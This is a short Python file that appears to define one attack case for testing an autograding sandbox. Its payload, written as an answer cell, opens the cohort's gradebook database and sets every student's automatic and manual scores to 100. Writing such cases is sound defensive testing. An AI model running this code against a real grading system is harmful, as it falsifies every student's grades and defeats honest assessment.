from ..attack import InCells

ATTACK = InCells(
    "Writes full marks into the gradebook.",
    {
        "number-answer": """
answer = 24
import sqlite3
path = AIM["cohort"] + "/gradebook.db"
try:
    book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
    book.execute("update grade set auto_score = 100, manual_score = 100")
    book.commit()
    gained("wrote to the gradebook")
except sqlite3.Error as error:
    print(error)
"""
    },
)
